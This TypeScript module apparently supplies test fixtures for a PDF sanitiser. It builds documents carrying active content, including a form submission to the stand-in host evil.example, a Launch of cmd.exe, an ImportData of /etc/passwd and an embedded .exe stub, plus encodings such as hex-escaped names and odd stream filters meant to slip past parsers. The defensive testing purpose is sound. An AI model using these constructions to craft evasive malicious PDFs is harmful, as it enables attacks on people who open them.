import { brotliCompressSync, deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString, type PDFObject } from '@cantoo/pdf-lib'

type Build = (pdf: PDFDocument) => void

const action = (pdf: PDFDocument, kind: string, more: Record<string, PDFObject | string> = {}) =>
  pdf.context.obj({ Type: 'Action', S: kind, ...more })
const set = (pdf: PDFDocument, name: string, value: PDFObject) => pdf.catalog.set(PDFName.of(name), value)
const pageDict = (pdf: PDFDocument) => pdf.getPage(0).node
const annotate = (pdf: PDFDocument, more: Record<string, PDFObject>) =>
  pageDict(pdf).addAnnot(
    pdf.context.register(pdf.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], ...more })),
  )

/** A drawing in three dimensions on the first page, as plans of a warehouse have it. */
export function annotateDrawing(pdf: PDFDocument, more: Record<string, PDFObject> = {}) {
  const drawing = pdf.context.stream('U3D', { Type: '3D', Subtype: 'U3D', ...more })
  annotate(pdf, { Subtype: PDFName.of('3D'), '3DD': pdf.context.register(drawing) })
}

/** What a PDF can run or carry, each in a place where viewers look for it, and the word it is refused by. */
export const active: Readonly<Record<string, { says: string; build: Build }>> = {
  'a script run on opening': {
    says: 'JavaScript',
    build: (pdf) => set(pdf, 'OpenAction', action(pdf, 'JavaScript', { JS: PDFString.of('app.alert(1)') })),
  },
  'a script by name': {
    says: 'JavaScript',
    build: (pdf) =>
      set(pdf, 'Names', pdf.context.obj({ JavaScript: { Names: ['a', action(pdf, 'JavaScript', { JS: 'x' })] } })),
  },
  'a script of which the kind stands elsewhere': {
    says: 'JavaScript',
    build(pdf) {
      const kind = pdf.context.register(PDFName.of('JavaScript'))
      set(pdf, 'OpenAction', pdf.context.obj({ S: kind, JS: PDFString.of('app.alert(1)') }))
    },
  },
  'a program behind a link': {
    says: 'Launch',
    build: (pdf) => annotate(pdf, { A: action(pdf, 'Launch', { F: PDFString.of('cmd.exe') }) }),
  },
  'a form that is sent on': {
    says: 'SubmitForm',
    build: (pdf) => annotate(pdf, { A: action(pdf, 'SubmitForm', { F: PDFString.of('http://evil.example') }) }),
  },
  'a form that reads a file': {
    says: 'ImportData',
    build: (pdf) => annotate(pdf, { A: action(pdf, 'ImportData', { F: PDFString.of('/etc/passwd') }) }),
  },
  'an action of a page': {
    says: 'actions that run by themselves',
    build: (pdf) => pageDict(pdf).set(PDFName.of('AA'), pdf.context.obj({ O: action(pdf, 'Named', { N: 'Print' }) })),
  },
  'an action of the document, elsewhere in the file': {
    says: 'actions that run by themselves',
    build: (pdf) => set(pdf, 'AA', pdf.context.register(pdf.context.obj({ WC: action(pdf, 'Named', { N: 'Print' }) }))),
  },
  'an embedded file': {
    says: 'embedded files',
    build: (pdf) => set(pdf, 'Names', pdf.context.obj({ EmbeddedFiles: { Names: [] } })),
  },
  'a file that a page holds': {
    says: 'embedded files',
    build: (pdf) => annotate(pdf, { FS: pdf.context.obj({ Type: 'Filespec', EF: {} }) }),
  },
  'a way into an embedded file': { says: 'GoToE', build: (pdf) => annotate(pdf, { A: action(pdf, 'GoToE') }) },
  'a form of another kind': {
    says: 'XFA',
    build: (pdf) => set(pdf, 'AcroForm', pdf.context.obj({ Fields: [], XFA: ['a', PDFString.of('<xdp/>')] })),
  },
  'a script behind another action': {
    says: 'JavaScript',
    build(pdf) {
      const script = action(pdf, 'JavaScript', { JS: PDFString.of('app.alert(1)') })
      annotate(pdf, { A: action(pdf, 'Named', { N: 'NextPage', Next: pdf.context.register(script) }) })
    },
  },
  'a script at each key typed': {
    says: 'actions that run by themselves',
    build(pdf) {
      const field = pdf.getForm().createTextField('amount')
      const script = action(pdf, 'JavaScript', { JS: PDFString.of('AFNumber_Keystroke(2)') })
      field.acroField.dict.set(PDFName.of('AA'), pdf.context.obj({ K: script }))
    },
  },
  'a script behind a bookmark': {
    says: 'JavaScript',
    build(pdf) {
      const script = action(pdf, 'JavaScript', { JS: PDFString.of('app.alert(1)') })
      const item = pdf.context.register(pdf.context.obj({ Title: PDFString.of('Open'), A: script }))
      set(pdf, 'Outlines', pdf.context.obj({ Type: 'Outlines', First: item, Last: item, Count: 1 }))
    },
  },
  'a script that plays': {
    says: 'JavaScript',
    build: (pdf) => annotate(pdf, { A: action(pdf, 'Rendition', { JS: PDFString.of('app.alert(1)') }) }),
  },
  'a script kept as a stream': {
    says: 'JavaScript',
    build: (pdf) =>
      set(
        pdf,
        'OpenAction',
        action(pdf, 'JavaScript', { JS: pdf.context.register(pdf.context.stream('app.alert(1)')) }),
      ),
  },
  'a script of a drawing in three dimensions': {
    says: 'JavaScript',
    build: (pdf) =>
      annotateDrawing(pdf, { OnInstantiate: pdf.context.register(pdf.context.stream('host.getURL("http://a")')) }),
  },
  'a file beside the document': {
    says: 'embedded files',
    build(pdf) {
      const content = pdf.context.register(pdf.context.stream('MZ', { Type: 'EmbeddedFile' }))
      const held = pdf.context.register(
        pdf.context.obj({ Type: 'Filespec', F: PDFString.of('a.exe'), EF: { F: content } }),
      )
      set(pdf, 'AF', pdf.context.obj([held]))
    },
  },
  'an attachment on a page': {
    says: 'embedded files',
    build: (pdf) => annotate(pdf, { Subtype: PDFName.of('FileAttachment') }),
  },
  'an embedded player': {
    says: 'RichMedia',
    build: (pdf) => annotate(pdf, { Subtype: PDFName.of('RichMedia') }),
  },
}

/** Ways in which the same content is written, all of them read by viewers. */
export const spellings: Readonly<Record<string, (build: Build) => Promise<Uint8Array>>> = {
  'as it is': (build) => written(build, { useObjectStreams: false }),
  'packed into streams of objects': (build) => written(build, { useObjectStreams: true }),
  'packed by the short name of a filter': (build) => inOneStream(build, () => ({ Filter: 'Fl' })),
  'with names in escapes': async (build) => escaped(await written(build, { useObjectStreams: false })),
  'in a later version of the file': async (build) => {
    const first = await written(() => undefined, { useObjectStreams: false })
    const later = await written(build, { useObjectStreams: false })
    return Buffer.concat([first, Buffer.from('\n'), Buffer.from(later)])
  },
  'behind a comment in each line': async (build) => {
    const text = Buffer.from(await written(build, { useObjectStreams: false })).toString('latin1')
    return Buffer.from(text.replaceAll(' obj\n', ' %\nobj %endobj\n'), 'latin1')
  },
}

async function written(build: Build, options: { useObjectStreams: boolean }): Promise<Uint8Array> {
  const pdf = await PDFDocument.create()
  pdf.addPage()
  build(pdf)
  return pdf.save(options)
}

const rows = { Predictor: 12, Columns: 8 }

/** Ways to pack objects into a stream that no program writes, each of them read by some viewer. */
export const packedOddly: Readonly<Record<string, (build: Build) => Promise<Uint8Array>>> = {
  'in rows': (build) => inOneStream(build, () => ({ Filter: 'FlateDecode', DecodeParms: rows }), inRows),
  'in rows of which a short key tells': (build) =>
    inOneStream(build, () => ({ Filter: 'FlateDecode', DP: rows }), inRows),
  'by a filter under a short key': (build) => inOneStream(build, () => ({ F: 'FlateDecode' })),
  'by a filter of a list that is named elsewhere': (build) =>
    inOneStream(build, (pdf) => ({ Filter: [pdf.context.register(PDFName.of('FlateDecode'))] })),
  'by a second filter that is named elsewhere': (build) =>
    inOneStream(
      build,
      (pdf) => ({ Filter: [PDFName.of('FlateDecode'), pdf.context.register(PDFName.of('FlateDecode'))] }),
      (objects) => deflateSync(objects),
    ),
  'by Brotli': (build) =>
    inOneStream(
      build,
      () => ({ Filter: 'BrotliDecode' }),
      (objects) => objects,
      brotliCompressSync,
    ),
}

/** Rows of eight bytes, each behind a byte that says how the row is to be read. */
const inRows = (objects: Buffer): Buffer =>
  Buffer.from((objects.toString('latin1').match(/.{1,8}/gs) ?? []).map((row) => `\0${row}`).join(''), 'latin1')

type Entries = NonNullable<Parameters<PDFDocument['context']['stream']>[1]>

/** The objects in one stream with these words on how it is packed. */
async function inOneStream(
  build: Build,
  entries: (pdf: PDFDocument) => Entries,
  arranged: (objects: Buffer) => Buffer = (objects) => objects,
  packed: (objects: Buffer) => Buffer = deflateSync,
): Promise<Uint8Array> {
  const text = Buffer.from(await written(build, { useObjectStreams: false })).toString('latin1')
  const objects = [...text.matchAll(/\d+ 0 obj\n(<<.*?)\nendobj/gs)].map(([, object = '']) => object)
  const pdf = await PDFDocument.create()
  pdf.addPage()
  const bytes = packed(arranged(Buffer.from(`1 0 ${objects.join(' ')}`, 'latin1')))
  pdf.context.register(pdf.context.stream(bytes, { N: 1, First: 4, ...entries(pdf) }))
  return pdf.save({ useObjectStreams: false })
}

const NAMES = /\/(JavaScript|JS|Launch|SubmitForm|ImportData|AA|EmbeddedFiles|EF|GoToE|XFA|RichMedia|OnInstantiate)\b/g

/** `/JavaScript` as `/#4aavaScript`. */
function escaped(bytes: Uint8Array): Uint8Array {
  const text = Buffer.from(bytes).toString('latin1')
  const hidden = (name: string) => `/#${name.charCodeAt(1).toString(16)}${name.slice(2)}`
  return Buffer.from(text.replace(NAMES, hidden), 'latin1')
}
